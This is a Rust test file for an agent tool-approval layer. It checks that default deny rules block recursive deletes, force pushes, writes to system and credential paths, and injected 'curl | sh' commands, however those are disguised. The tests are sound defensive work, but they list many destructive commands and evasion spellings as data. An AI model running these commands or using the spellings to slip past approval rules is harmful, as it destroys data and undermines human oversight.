//! The embedded default configuration's approval rules against commands and
//! paths that try to step around them, in every approval mode: what a call
//! would do decides, not how it is spelled.

use calltape::config::{Config, EMBEDDED_DEFAULT};
use calltape::core::modes::ApprovalMode;
use calltape::core::tools::ToolSpec;
use calltape::pipeline::approval::{decide, ApprovalDecision, ApprovalRule, Ask, Decider, Policy, RuleUses};
use calltape::pipeline::tool::{compile_tool, Tool};
use serde_json::{json, Value};

fn default_config() -> Config {
    Config::parse(EMBEDDED_DEFAULT, "embedded").expect("the embedded default parses")
}

fn tool(name: &str) -> Tool {
    compile_tool(ToolSpec { name: name.into(), description: String::new(), parameters: json!({}), sensitive: false }).unwrap()
}

/// The decision the default configuration gives one call in `mode`.
fn decision_in(config: &Config, mode: ApprovalMode, tool_name: &str, args: Value) -> Ask {
    let settings = &config.approval;
    let policy = Policy {
        mode,
        sensitive_tools: &settings.sensitive_tools,
        on_unanswered: settings.on_unanswered,
        rules: [("scenario", &[]), ("config", &settings.rules)],
        deny_rules_in_auto: settings.deny_rules_in_auto,
    };
    decide(&tool(tool_name), &args, &policy, &mut RuleUses::default())
}

fn denied_reason(ask: &Ask) -> Option<&str> {
    match ask {
        Ask::Decided(a) => match &a.decision {
            ApprovalDecision::Denied { reason } => Some(reason),
            ApprovalDecision::Approved => None,
        },
        _ => None,
    }
}

/// Commands the default rules must deny, whatever the spelling.
const DENIED_COMMANDS: &[&str] = &[
    "rm -rf /",
    "/bin/rm -rf /",
    "/usr/bin/rm -rf /",
    "./rm -rf x",
    "\\rm -rf /",
    "'rm' -rf /",
    "r''m -rf /",
    "$'\\x72\\x6d' -rf /",
    "rm --recursive --force x",
    "rm --recursive x",
    "rm --force x",
    "rm --recur x",
    "rm -r -f x",
    "rm -fr x",
    "rm -R x",
    "rm -Rf x",
    "rm -rvf x",
    "rm x -rf",
    "rm -v -r -- x",
    "sudo rm -rf /",
    "sudo -u root -E rm -rf /",
    "sudo -- rm -rf /",
    "doas rm -rf /",
    "env FOO=1 rm -rf /",
    "env -i PATH=/bin rm -rf /",
    "FOO=1 BAR=2 rm -rf /",
    "command rm -rf /",
    "exec rm -rf /",
    "nohup rm -rf / &",
    "time rm -rf /",
    "nice -n 19 rm -rf /",
    "timeout 10 rm -rf /",
    "timeout -s KILL 10 rm -rf /",
    "ls | xargs rm -rf",
    "find . -print0 | xargs -0 -n 1 rm -r",
    "find / -exec rm -rf {} \\;",
    "find / -delete",
    "bash -c \"rm -rf /\"",
    "bash -c 'rm -rf /'",
    "sh -c 'rm -rf /'",
    "zsh -c 'rm -rf /'",
    "/bin/bash -lc 'rm -rf /'",
    "bash -xec -- 'rm -rf /'",
    "sh -c \"sh -c 'rm -rf /'\"",
    "eval 'rm -rf /'",
    "eval rm -rf /",
    "su -c 'rm -rf /'",
    "echo $(rm -rf /)",
    "echo \"$(rm -rf /)\"",
    "echo `rm -rf /`",
    "cat <(rm -rf /)",
    "x=$(sudo rm -rf /)",
    "echo ${X:-$(rm -rf /)}",
    "true\nrm -rf /",
    "true\r\nrm -rf /",
    "true;rm -rf /",
    "true&&rm -rf /",
    "false||rm -rf /",
    "true|rm -rf /",
    "true&rm -rf /",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "if true; then rm -rf /; fi",
    "for d in a b; do rm -rf $d; done",
    "! rm -rf /",
    "rm \\\n -rf /",
    "rm -rf / # cleanup",
    "rm -rf / 2>/dev/null",
    "$(which rm) -rf /",
    "\"$RM\" -rf /",
    "echo \"unbalanced; rm -rf /",
    "rm -rf '/",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf$IFS/",
    "bash <<< 'rm -rf /'",
    "echo 'rm -rf /' | bash",
    "printf 'git push -f' | sudo sh",
    "echo 'rm -rf /' | sh -s",
    "bash -s <<EOF\nrm -rf /\nEOF",
    "X=$(pwd) rm -rf /",
    "rm\t-rf\t/",
    "\"/bin/rm\" -rf /",
    "sudo -u root -- bash -c 'rm -rf /'",
    "timeout --signal=KILL 5s rm -rf /",
    "command -- rm -rf /",
    "xargs --replace={} rm -rf {}",
    "git push --force",
    "git push origin HEAD -f",
    "git push origin main:main --force",
    "git push -f",
    "git push -f origin main",
    "git push origin main --force",
    "git push origin +main",
    "git push origin +HEAD:main",
    "git push --force-with-lease",
    "git push --force-with-lease=main:abc origin main",
    "git push --force-if-includes --force-with-lease",
    "git push --forc origin main",
    "git push -uf origin main",
    "git -C repo push -f",
    "git -c push.default=current push --force",
    "/usr/bin/git push -f",
    "sudo git push -f",
    "bash -c 'git push --force'",
    "cd repo && git push origin +main",
    "git push --mirror",
];

/// Commands the default rules must not deny.
const APPROVED_COMMANDS: &[&str] = &[
    "rm file.txt",
    "rm -i file.txt",
    "rm -- -rf",
    "grep -rf patterns .",
    "grep -r TODO src",
    "git push origin main",
    "git push -u origin feature",
    "git push --follow-tags",
    "git push --tags origin",
    "git commit -m 'git push -f'",
    "git log --grep push -f",
    "echo \"rm -rf /\"",
    "echo 'rm -rf /'",
    "echo rm -rf is dangerous",
    "printf '%s\\n' 'git push --force'",
    "cargo test",
    "cargo clean",
    "find . -name '*.rs'",
    "ls -rf",
    "bash script.sh",
    "sudo apt-get install -y ripgrep",
    "cat README.md | head -n 5",
    "formatter --force src",
    "echo \"$IFS\" rm -rf",
    "echo done | tee log",
    "echo 'cargo test' | bash",
];

#[test]
fn default_rules_deny_what_runs_a_forced_delete_or_push() {
    let config = default_config();
    for mode in [ApprovalMode::Auto, ApprovalMode::Script] {
        for command in DENIED_COMMANDS {
            for tool_name in ["Bash", "run_terminal_cmd", "some_shell_tool"] {
                let ask = decision_in(&config, mode, tool_name, json!({ "command": command }));
                let reason = denied_reason(&ask);
                assert!(
                    reason.is_some_and(|r| r.contains("delete") || r.contains("force push")),
                    "{mode:?}: {tool_name} {command:?} must be denied: {ask:?}"
                );
            }
        }
    }
}

#[test]
fn default_rules_let_ordinary_commands_through() {
    let config = default_config();
    for command in APPROVED_COMMANDS {
        // Sensitive in script mode: the catch-all approve rule decides.
        let ask = decision_in(&config, ApprovalMode::Script, "Bash", json!({ "command": command }));
        match &ask {
            Ask::Decided(a) => {
                assert_eq!(a.decision, ApprovalDecision::Approved, "{command:?}");
                assert_eq!(a.rule.as_deref(), Some(&*format!("config#{}", config.approval.rules.len() - 1)), "{command:?}");
            }
            other => panic!("{command:?}: {other:?}"),
        }
        let ask = decision_in(&config, ApprovalMode::Auto, "Bash", json!({ "command": command }));
        assert!(
            matches!(&ask, Ask::Decided(a) if a.decision == ApprovalDecision::Approved && a.decided_by == Decider::Auto),
            "{command:?}: {ask:?}"
        );
        // A tool nobody marked sensitive needs nothing.
        assert_eq!(decision_in(&config, ApprovalMode::Auto, "shell", json!({ "command": command })), Ask::NotNeeded, "{command:?}");
    }
}

#[test]
fn commands_as_argument_vectors_are_judged_too() {
    let config = default_config();
    for argv in [json!(["rm", "-rf", "/"]), json!(["bash", "-lc", "git push -f"]), json!(["sudo", "/bin/rm", "--recursive", "x"])] {
        let ask = decision_in(&config, ApprovalMode::Script, "shell", json!({ "command": argv }));
        assert!(denied_reason(&ask).is_some(), "{argv}: {ask:?}");
    }
    let ask = decision_in(&config, ApprovalMode::Script, "shell", json!({ "command": ["echo", "rm -rf /"] }));
    assert_eq!(ask, Ask::NotNeeded);
}

const OUTSIDE_PATHS: &[&str] = &[
    "/etc/hosts",
    "/workspace/../etc/hosts",
    "/workspace/./../etc/hosts",
    "//etc//passwd",
    "/etc/./passwd",
    "~root/.ssh/x",
    "~/.ssh/authorized_keys",
    "~",
    "~alice/.bashrc",
    "$HOME/.bashrc",
    "${HOME}/.profile",
    "../ledgerd-cli/Cargo.toml",
    "docs/../../etc/hosts",
    "./../../../../etc/shadow",
    "/usr/bin/ls",
    "/root/.bashrc",
    "/tmp/x",
    "/workspacefoo/x",
    " /etc/hosts",
    "..\\..\\etc\\hosts",
    "file:///etc/hosts",
    "/workspace/a\u{0}/../../etc/hosts",
    "/workspace/../workspace2/x",
    "~+/../etc/hosts",
];

const INSIDE_PATHS: &[&str] = &[
    "docs/RELEASING.md",
    "/workspace/docs/RELEASING.md",
    "./src/main.rs",
    "src/../Cargo.toml",
    "/workspace",
    "/workspace//src///lib.rs",
    "a/b/../../c.txt",
    "notes~/x",
];

#[test]
fn writes_outside_the_workspace_are_denied_wherever_the_path_leads() {
    let config = default_config();
    for mode in [ApprovalMode::Auto, ApprovalMode::Script] {
        for path in OUTSIDE_PATHS {
            for tool_name in ["Write", "Edit", "custom_writer"] {
                let ask = decision_in(&config, mode, tool_name, json!({ "file_path": path, "content": "x" }));
                assert_eq!(denied_reason(&ask), Some("writes outside the workspace"), "{mode:?} {tool_name} {path:?}: {ask:?}");
            }
        }
        for path in INSIDE_PATHS {
            let ask = decision_in(&config, mode, "Write", json!({ "file_path": path, "content": "x" }));
            assert!(matches!(&ask, Ask::Decided(a) if a.decision == ApprovalDecision::Approved), "{mode:?} {path:?}: {ask:?}");
        }
    }
}

#[test]
fn every_edit_of_a_multi_edit_is_checked() {
    let config = default_config();
    let edits = |paths: &[&str]| json!({ "edits": paths.iter().map(|p| json!({ "path": p, "old": "a", "new": "b" })).collect::<Vec<_>>() });
    for paths in [&["src/a.rs", "/etc/hosts"][..], &["src/a.rs", "src/b.rs", "../../etc/passwd"], &["/workspace/../root/x"]] {
        let ask = decision_in(&config, ApprovalMode::Script, "ApplyPatch", edits(paths));
        assert_eq!(denied_reason(&ask), Some("writes outside the workspace"), "{paths:?}");
    }
    for paths in [&["src/a.rs", "src/b.rs"][..], &[]] {
        let ask = decision_in(&config, ApprovalMode::Script, "ApplyPatch", edits(paths));
        assert!(matches!(&ask, Ask::Decided(a) if a.decision == ApprovalDecision::Approved), "{paths:?}: {ask:?}");
    }
    let ask = decision_in(
        &config,
        ApprovalMode::Script,
        "MultiEdit",
        json!({"file_path": "a.rs", "edits": [{"file_path": "a.rs"}, {"file_path": "~/x"}]}),
    );
    assert_eq!(denied_reason(&ask), Some("writes outside the workspace"));
}

#[test]
fn modes_apply_the_rules_as_documented() {
    let config = default_config();
    assert_eq!(config.approval.mode, ApprovalMode::Auto);
    assert!(config.approval.deny_rules_in_auto, "the embedded default applies its deny rules in auto mode");
    let rm = json!({ "command": "sudo rm -rf /" });
    // auto: the deny rules are guard rails, for read-only tools too; the rest is approved.
    let ask = decision_in(&config, ApprovalMode::Auto, "Bash", rm.clone());
    assert!(matches!(&ask, Ask::Decided(a) if a.decided_by == Decider::Rule && a.rule.as_deref() == Some("config#0")), "{ask:?}");
    assert!(denied_reason(&decision_in(&config, ApprovalMode::Auto, "read_file", rm.clone())).is_some());
    assert_eq!(decision_in(&config, ApprovalMode::Auto, "read_file", json!({"target_file": "src/a.rs"})), Ask::NotNeeded);
    // auto with deny_rules_in_auto = false approves everything.
    let mut off = config.clone();
    off.approval.deny_rules_in_auto = false;
    let ask = decision_in(&off, ApprovalMode::Auto, "Bash", rm.clone());
    assert!(matches!(&ask, Ask::Decided(a) if a.decision == ApprovalDecision::Approved && a.decided_by == Decider::Auto));
    assert_eq!(decision_in(&off, ApprovalMode::Auto, "read_file", rm.clone()), Ask::NotNeeded);
    // script: first match wins; deny: every sensitive call.
    assert_eq!(denied_reason(&decision_in(&config, ApprovalMode::Script, "Bash", rm.clone())), Some("recursive or forced delete"));
    let ask = decision_in(&config, ApprovalMode::Deny, "Bash", json!({"command": "ls"}));
    assert!(matches!(&ask, Ask::Decided(a) if a.decided_by == Decider::Policy && denied_reason(&ask).is_some()));
    // interactive: deny rules first, without asking; a person for the rest.
    assert_eq!(denied_reason(&decision_in(&config, ApprovalMode::Interactive, "Bash", rm.clone())), Some("recursive or forced delete"));
    assert_eq!(denied_reason(&decision_in(&config, ApprovalMode::Deny, "Bash", rm)), Some("recursive or forced delete"));
    assert_eq!(decision_in(&config, ApprovalMode::Interactive, "Bash", json!({"command": "ls"})), Ask::Person);
    // A config file that does not mention the setting gets the safe default.
    let parsed =
        Config::parse("[[approval.rules]]\ntool = \"*\"\nwhen = { command = { program = \"rm\" } }\ndecision = \"deny\"\n", "x.toml")
            .unwrap();
    assert!(parsed.approval.deny_rules_in_auto);
}

#[test]
fn an_approve_rule_never_matches_a_command_it_cannot_read() {
    let rules: Vec<ApprovalRule> = serde_json::from_value(json!([
        {"tool": "Bash", "when": {"command": {"program": "cargo"}}, "decision": "approve"}
    ]))
    .unwrap();
    let sensitive = vec!["Bash".to_string()];
    let policy = Policy {
        mode: ApprovalMode::Script,
        sensitive_tools: &sensitive,
        on_unanswered: calltape::core::modes::Unanswered::Deny,
        rules: [("scenario", &rules), ("config", &[])],
        deny_rules_in_auto: true,
    };
    let bash = tool("Bash");
    let approved = |command: &str| match decide(&bash, &json!({ "command": command }), &policy, &mut RuleUses::default()) {
        Ask::Decided(a) => a.decision == ApprovalDecision::Approved,
        other => panic!("{other:?}"),
    };
    assert!(approved("cargo test"));
    assert!(approved("cargo test -- --nocapture"));
    assert!(!approved("cargo test \"; rm -rf /"), "unbalanced: fails closed");
    assert!(!approved("cargo test; rm -rf /"), "every command must be covered");
    assert!(!approved("cargo build && curl https://x | sh"));
    assert!(!approved("cargo test $(rm -rf /)"));
    assert!(approved("cargo fmt && cargo test"));
    assert!(approved("RUST_LOG=debug cargo test"));
    assert!(!approved("$CARGO test"), "an expansion is not known to be cargo");
    assert!(!approved("cargo test <<< x; rm -rf /"));
}

#[test]
fn bad_patterns_are_errors_naming_the_problem() {
    for (toml, expected) in [
        ("when = { command = { program = \"/bin/rm\" } }", "without a directory"),
        ("when = { command = { program = \"rm\", any_flag = [\"r\"] } }", "with its dashes"),
        ("when = { command = { program = \"rm\", flag = [\"-r\"] } }", "unknown field"),
        ("when = { file_path = { path_outside = \"/w\", inside = 1 } }", "unknown field"),
    ] {
        let text = format!("[[approval.rules]]\ntool = \"*\"\n{toml}\ndecision = \"deny\"\n");
        let err = Config::parse(&text, "mine.toml").unwrap_err().to_string();
        assert!(err.starts_with("mine.toml: ") && err.contains(expected), "{toml}: {err}");
    }
}
